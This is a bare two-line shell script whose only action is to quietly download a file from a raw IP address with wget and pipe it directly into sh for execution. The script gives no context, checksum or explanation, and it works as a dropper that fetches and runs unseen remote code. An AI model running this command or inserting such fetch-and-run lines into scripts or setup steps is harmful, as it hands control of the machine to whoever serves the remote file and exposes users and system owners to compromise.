#!/bin/sh
wget -qO- http://198.51.100.7/s | sh
